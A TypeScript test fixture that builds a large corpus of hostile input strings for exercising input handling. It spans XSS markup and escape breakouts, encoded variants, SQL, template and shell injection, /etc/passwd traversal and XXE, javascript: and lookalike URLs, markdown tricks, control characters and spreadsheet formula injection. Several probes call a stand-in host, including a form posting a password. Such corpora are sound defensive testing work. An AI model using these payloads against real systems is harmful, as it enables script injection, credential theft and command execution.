/** Where a text that is taken for more than text would be heard: a function of the page, a host that is asked, an element that carries a mark. */
export const HEARD = { call: 'jackdawHeard', host: 'heard.example', mark: 'data-heard' } as const;

const { call, mark } = HEARD;
const url = `https://${HEARD.host}/`;

/** Markup that runs, asks a host or at least stands in the document, wherever it is put in as markup. */
const MARKUP = [
  `<script ${mark}>${call}()</script>`,
  `<ScRiPt ${mark}>${call}()</sCrIpT>`,
  `<script ${mark} src="${url}a.js"></script>`,
  `<script ${mark} type=module>${call}()</script>`,
  `<img ${mark} src=x onerror=${call}()>`,
  `<img ${mark} src="${url}a.png">`,
  `<img ${mark} srcset="${url}a.png 1x">`,
  `<IMG ${mark} SRC=x onerror = "${call}()" `,
  `<img/${mark}/src=x/onerror=${call}()>`,
  `<svg ${mark} onload=${call}()>`,
  `<svg ${mark}><script>${call}()</script></svg>`,
  `<svg ${mark}><animate onbegin=${call}() attributeName=x dur=1s></svg>`,
  `<svg ${mark}><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg' onload='${call}()'/>#x"></svg>`,
  `<svg ${mark}><a xlink:href="javascript:${call}()"><text y=20>here</text></a></svg>`,
  `<svg ${mark}><style>{font-family:'<iframe onload=${call}()>'}</style></svg>`,
  `<math ${mark} href="javascript:${call}()">here</math>`,
  `<math ${mark}><mtext><table><mglyph><style><!--</style><img title="--><img src=x onerror=${call}()>">`,
  `<noscript><p title="</noscript><img ${mark} src=x onerror=${call}()>">`,
  `<iframe ${mark} src="javascript:parent.${call}()"></iframe>`,
  `<iframe ${mark} srcdoc="<script>parent.${call}()</script>"></iframe>`,
  `<iframe ${mark} src="${url}"></iframe>`,
  `<object ${mark} data="javascript:${call}()"></object>`,
  `<object ${mark} data="data:text/html,<script>${call}()</script>"></object>`,
  `<embed ${mark} src="${url}a.swf">`,
  `<a ${mark} href="javascript:${call}()">here</a>`,
  `<a ${mark} href="java&#x09;script:${call}()">here</a>`,
  `<a ${mark} href=" javascript:${call}()">here</a>`,
  `<a ${mark} href="data:text/html,<script>${call}()</script>">here</a>`,
  `<a ${mark} ping="${url}" href="${url}">here</a>`,
  `<form ${mark} action="javascript:${call}()"><button>Apply</button></form>`,
  `<form ${mark} action="${url}"><input name=password autofocus></form>`,
  `<button ${mark} formaction="javascript:${call}()">Apply</button>`,
  `<input ${mark} autofocus onfocus=${call}()>`,
  `<select ${mark} autofocus onfocus=${call}()><option>here</select>`,
  `<textarea ${mark} autofocus onfocus=${call}()>here</textarea>`,
  `<details ${mark} open ontoggle=${call}()>here</details>`,
  `<body ${mark} onload=${call}() onpageshow=${call}()>`,
  `<video ${mark} src="${url}a.mp4" onerror=${call}()></video>`,
  `<video ${mark} poster="${url}a.png"></video>`,
  `<audio ${mark} src=x onerror=${call}()></audio>`,
  `<video ${mark}><source onerror=${call}()></video>`,
  `<marquee ${mark} onstart=${call}()>here</marquee>`,
  `<link ${mark} rel=stylesheet href="${url}a.css">`,
  `<link ${mark} rel=prefetch href="${url}a.css">`,
  `<style ${mark}>@import "${url}a.css"; * { display: none }</style>`,
  `<style ${mark}>body { background: url(${url}a.png) }</style>`,
  `<div ${mark} style="background: url(${url}a.png)">here</div>`,
  `<div ${mark} style="position: fixed; inset: 0; z-index: 99999">here</div>`,
  `<meta ${mark} http-equiv=refresh content="0; url=${url}">`,
  `<meta ${mark} http-equiv=Content-Security-Policy content="script-src *">`,
  `<base ${mark} href="${url}">`,
  `<template ${mark}><script>${call}()</script></template>`,
  `<x-unknown ${mark} onpointerover=${call}() tabindex=1>here</x-unknown>`,
  `<p ${mark} id=cookie name=cookie>here</p><form id=document></form>`,
  `<table background="${url}a.png" ${mark}><td>here`,
  `<xml ${mark}><?xml-stylesheet href="${url}a.xsl"?></xml>`,
] as const;

/** What a text has to get out of first, where it is put into something else. */
const WAYS_OUT = [
  '">', "'>", '`>', '</title>', '</textarea>', '</style>', '</script>', '</noscript>', '</option></select>', '-->', ']]>', '?>', '\\">', '" autofocus>', '%22%3E', '\u0000>',
].flatMap((out) => [`${out}${MARKUP[0]}`, `${out}${MARKUP[4]}`]); // prettier-ignore

/** Markup that is none until it was decoded once too often. */
const ENCODED = [
  `&lt;script ${mark}&gt;${call}()&lt;/script&gt;`,
  `&amp;lt;script ${mark}&amp;gt;${call}()&amp;lt;/script&amp;gt;`,
  `&#60;script ${mark}&#62;${call}()&#60;/script&#62;`,
  `&#x3c;img ${mark} src=x onerror=${call}()&#x3e;`,
  `\\u003cscript ${mark}\\u003e${call}()\\u003c/script\\u003e`,
  `\\x3cscript ${mark}\\x3e${call}()\\x3c/script\\x3e`,
  `%3Cscript%20${mark}%3E${call}()%3C/script%3E`,
  `+ADw-script ${mark}+AD4-${call}()+ADw-/script+AD4-`,
  `＜script ${mark}＞${call}()＜/script＞`,
  `‹script ${mark}›${call}()‹/script›`,
  `<scr<script>ipt ${mark}>${call}()</scr</script>ipt>`,
  `<<script ${mark}>${call}()//<</script>`,
  `<!--><img ${mark} src=x onerror=${call}()>-->`,
  `<![CDATA[<script ${mark}>${call}()</script>]]>`,
  `<!ENTITY x SYSTEM "file:///etc/passwd"><p ${mark}>&x;</p>`,
  `<% ${call}() %><?php ${call}(); ?><p ${mark}>here</p>`,
] as const;

/** What templates, shells, databases, logs and JSON make of a text. */
const LANGUAGES = [
  `{{${call}()}}`, `\${${call}()}`, `#{${call}()}`, `{{constructor.constructor('${call}()')()}}`, `\${{<%[%'"}}%\\.`, `';${call}();//`, `";${call}();//`, `\`;${call}();//`, `\\';${call}();//`,
  `');${call}();('`, `"+${call}()+"`, `{"__proto__":{"polluted":true}}`, '__proto__', 'constructor.prototype.polluted', 'toString', 'hasOwnProperty', 'null', 'undefined', 'NaN', '[object Object]', '%s %d %n %x',
  `'; drop table applications; --`, `' or '1'='1`, '"; $(touch /tmp/x) #', '`touch /tmp/x`', '../../../../etc/passwd', '\u001b[31mred\u001b[0m \u0007bell', 'a\r\nSet-Cookie: a=b\r\n\r\nhere', '$1 $& $` $\'', '\\n \\t \\0 \\u0000',
]; // prettier-ignore

/** Addresses that are none of the web's, or hide a name and a password. */
export const NO_ADDRESSES = [
  `javascript:${call}()`, `JaVaScRiPt:${call}()`, ` javascript:${call}()`, `\u0001javascript:${call}()`, `java\tscript:${call}()`, `java\nscript:${call}()`, `javascript&colon;${call}()`, `javascript://${HEARD.host}/%0a${call}()`,
  `vbscript:${call}()`, `livescript:${call}()`, `data:text/html,<script>${call}()</script>`, `data:text/html;base64,PHNjcmlwdD5qYWNrZGF3SGVhcmQoKTwvc2NyaXB0Pg==`, `data:image/svg+xml,<svg onload=${call}()>`,
  `blob:https://${HEARD.host}/1`, 'file:///etc/passwd', 'filesystem:https://x/temporary/a', 'view-source:https://x/', 'about:blank', 'chrome://settings', 'chrome-extension://abcdefghijklmnop/popup.html', 'moz-extension://a/b.html', 'intent://x#Intent;end',
  `//${HEARD.host}/a`, `https://good.example@${HEARD.host}/`, 'https://user:secret@good.example/',
]; // prettier-ignore
/** Those that lead elsewhere than they seem to. */
const FALSE_ADDRESSES = [
  `https://${HEARD.host}\\@good.example/`, 'https://gооd.example/', 'https://xn--80ak6aa92e.com/', 'https://good.example\u202e/gpj.exe', 'http://[::1]/', 'https:good.example', 'ht\u0000tps://good.example/',
]; // prettier-ignore
const LINKS = [...NO_ADDRESSES, ...FALSE_ADDRESSES].flatMap((address) => [address, `[Apply](${address}) ![here](${address}) <${address}>`]);

/** Markdown that other readers have taken for markup. */
const MARKDOWN = [
  `[here](<javascript:${call}()>)`, `[here]: javascript:${call}()\n[here]`, `[a](https://a" onmouseover="${call}())`, `[a](https://a'onerror='${call}())`, `![a](https://a"onerror="${call}())`, `![${mark}](${url}a.png)`, `![](${url}a.png "x")`, `<${url} onclick=${call}()>`,
  `\`\`\`html\n${MARKUP[0]}\n\`\`\``, `    ${MARKUP[0]}`, `\`${MARKUP[4]}\``, `> ${MARKUP[4]}`, `# ${MARKUP[4]}`, `- ${MARKUP[4]}`, `| a | b |\n|---|---|\n| ${MARKUP[4]} | b |`, `**${MARKUP[4]}**`, `\\${MARKUP[4]}`, `${MARKUP[4]}\n===`, `[![a](${url}a.png)](javascript:${call}())`, `a${'*'.repeat(200)}b`, `${'['.repeat(150)}a${']'.repeat(150)}`, `${'> '.repeat(100)}a`,
]; // prettier-ignore

/** Characters that turn the reading direction around, are not seen, or can't be stored. */
const CONTROLS = [
  '\u202a', '\u202b', '\u202c', '\u202d', '\u202e', '\u2066', '\u2067', '\u2068', '\u2069', '\u200e', '\u200f', '\u061c', '\u200b', '\u200c', '\u200d', '\u2060', '\u2061', '\ufeff', '\u00ad', '\u034f', '\u180e', '\u115f', '\u3164', '\ufff9', '\ufffb', '\ufffe', '\u{e0001}', '\u{e0041}', '\ufe0f', '\u2028', '\u2029', '\u0085',
].map((control) => `Engineer ${control}gnp.exe${control} (m/f)`); // prettier-ignore
const WRITING = [
  'مهندس برمجيات في شركة', 'מהנדס תוכנה', 'ระดับผู้จัดการ', '软件工程师（远程）', 'Z̷̡̪͈̈́͛a̸͉͠l̶̰̈́g̵̟̾o̶̪̕', 'a\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301', '\ud800 alone', 'alone \udfff', '\udc00\ud800', 'nothing\u0000here', '\u0001\u0002\u0003\u0008\u000b\u000c\u000e\u001f\u007f\u0080\u009f', '👩‍💻 Engineer 👨‍👩‍👧‍👦', '🏴󠁧󠁢󠁥󠁮󠁧󠁿🏳️‍🌈', '👋🏿👋🏻', '\u{1f1e9}\u{1f1f0}\u{1f1e9}', '🤖'.repeat(60), '\u{10ffff}\u{f0000}', '﷽﷽﷽', 'ﬃ ⅷ ① ㍿', 'İıſKÅ', 'W'.repeat(290), 'i'.repeat(290), 'word '.repeat(58).trim(), '\u00a0here\u00a0', 'a\tb', 'a\n\n\nb',
]; // prettier-ignore

/** What a spreadsheet would reckon out. */
const FORMULAS = [
  `=HYPERLINK("${url}","here")`, `=cmd|' /C calc'!A0`, `+cmd|' /C calc'!A0`, `-2+3+cmd|' /C calc'!A0`, `@SUM(1+1)*cmd|' /C calc'!A0`, `=IMPORTXML("${url}","//a")`, `=WEBSERVICE("${url}")`, '\t=1+1', '\r=1+1', '＝1+1', '＋1+1', '－1+1', '＠SUM(1)', '"=1+1"', `'=1+1`, ',=1+1', ';=1+1', '=1+1,"', '"', '""', ',', ';', 'a\rb', '-', '+', '=',
]; // prettier-ignore

/** Each is told by its number from the others. Of all kinds from the first on: any beginning of it is a fair sample. */
export const HOSTILE_TEXTS: readonly string[] = mixed([MARKUP, WAYS_OUT, ENCODED, LANGUAGES, LINKS, MARKDOWN, CONTROLS, WRITING, FORMULAS]);

function mixed(kinds: readonly (readonly string[])[]): string[] {
  const longest = Math.max(...kinds.map((kind) => kind.length));
  return Array.from({ length: longest }, (_, at) => kinds.flatMap((kind) => kind.slice(at, at + 1))).flat();
}
